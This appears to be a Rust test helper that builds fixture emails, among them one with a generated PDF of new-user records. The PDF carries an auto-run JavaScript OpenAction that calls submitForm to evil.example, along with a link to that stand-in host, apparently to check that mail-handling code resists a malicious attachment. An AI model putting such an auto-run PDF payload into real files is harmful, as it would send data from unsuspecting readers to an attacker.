//! Mails with documents that have to be typed in, and mails that mean harm.

#![allow(dead_code, reason = "shared by several tests, each of which uses a part")]

use data_encoding::BASE64;

/// The boundary of every mail here.
const BOUNDARY: &str = "part-of-it";

/// A PDF of one page with these lines; cells of a line are apart. It would run a script if a viewer let it.
pub(crate) fn pdf(lines: &[&[&str]]) -> Vec<u8> {
    let mut text = String::from("BT /F1 12 Tf ");
    for (row, cells) in lines.iter().enumerate() {
        for (column, cell) in cells.iter().enumerate() {
            text += &format!("1 0 0 1 {} {} Tm ({cell}) Tj ", 60 + column * 150, 720 - row * 24);
        }
    }
    text += "ET";
    let script = "app.alert\\('ran'\\); this.submitForm\\('https://evil.example/pdf'\\);";
    let objects = [
        format!("<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS ({script}) >> >>"),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> \
         /Annots [6 0 R] >>"
            .to_owned(),
        format!("<< /Length {} >>\nstream\n{text}\nendstream", text.len()),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_owned(),
        "<< /Type /Annot /Subtype /Link /Rect [60 700 300 760] /A << /S /URI /URI (https://evil.example/link) >> >>"
            .to_owned(),
    ];
    let mut file = String::from("%PDF-1.7\n");
    let mut places = Vec::new();
    for (number, object) in (1..).zip(&objects) {
        places.push(file.len());
        file += &format!("{number} 0 obj\n{object}\nendobj\n");
    }
    let table = file.len();
    file += &format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1);
    for place in places {
        file += &format!("{place:010} 00000 n \n");
    }
    file += &format!(
        "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{table}\n%%EOF\n",
        objects.len() + 1
    );
    file.into_bytes()
}

/// A file of a mail: its headers and its bytes.
pub(crate) struct Attached<'a> {
    pub(crate) headers: &'a str,
    pub(crate) bytes: Vec<u8>,
}

/// A mail of Pat with a text and files. `text` begins with its own headers.
pub(crate) fn mail(subject: &str, id: &str, text: &str, files: &[Attached<'_>]) -> String {
    let mut mail = format!(
        "From: Pat Field <pat@vendor.example>\r\nTo: setup@vendor.example\r\nSubject: {subject}\r\nMessage-ID: <{id}@vendor.example>\r\n\
         Date: Mon, 01 Mar 2027 08:00:00 -0500\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"{BOUNDARY}\"\r\n\r\n\
         --{BOUNDARY}\r\n{text}\r\n"
    );
    for file in files {
        let lines = BASE64.encode(&file.bytes);
        let lines: Vec<&str> = lines
            .as_bytes()
            .chunks(76)
            .map(|line| std::str::from_utf8(line).unwrap_or_default())
            .collect();
        mail += &format!(
            "--{BOUNDARY}\r\n{}\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n",
            file.headers,
            lines.join("\r\n")
        );
    }
    mail + &format!("--{BOUNDARY}--\r\n")
}

/// The list that has to be typed in.
pub(crate) const LIST: [&[&str]; 4] = [
    &["Name", "Email", "Level"],
    &["Kim Sorensen", "kim@harbor.example", "2"],
    &["Luis Romero", "luis@harbor.example", "3"],
    &["Noor Haddad", "noor@harbor.example", "1"],
];

/// Pat forwards a list as a PDF.
pub(crate) fn with_pdf() -> String {
    let text = "Content-Type: text/plain; charset=utf-8\r\n\r\nHi all,\r\n\r\nthe new users for Harbor Freight Lines are in the attached PDF. \
                Please hold them, they go live on March 22.\r\n\r\nThanks,\r\nPat\r\n";
    let file = Attached {
        headers: "Content-Type: application/pdf; name=\"new users.pdf\"\r\nContent-Disposition: attachment; filename=\"new users.pdf\"",
        bytes: pdf(&LIST),
    };
    mail("New users for Harbor", "with-pdf", text, &[file])
}

/// A picture of dots: a PNG of 16 by 16.
pub(crate) fn picture() -> Vec<u8> {
    let data: &[u8] = b"iVBORw0KGgoAAAANSUhEUgAAABAAAAAQAQMAAAAlPW0iAAAABlBMVEUAAAD///+l2Z/dAAAAM0lEQVR4nGP4/5/h/1+G/58ZDrAz3D/McH8yw83NDDeNGe4Ug9C9zwz3gVLMDA/A6P9/AFGGFyjOXZtQAAAAAElFTkSuQmCC";
    BASE64.decode(data).unwrap_or_default()
}
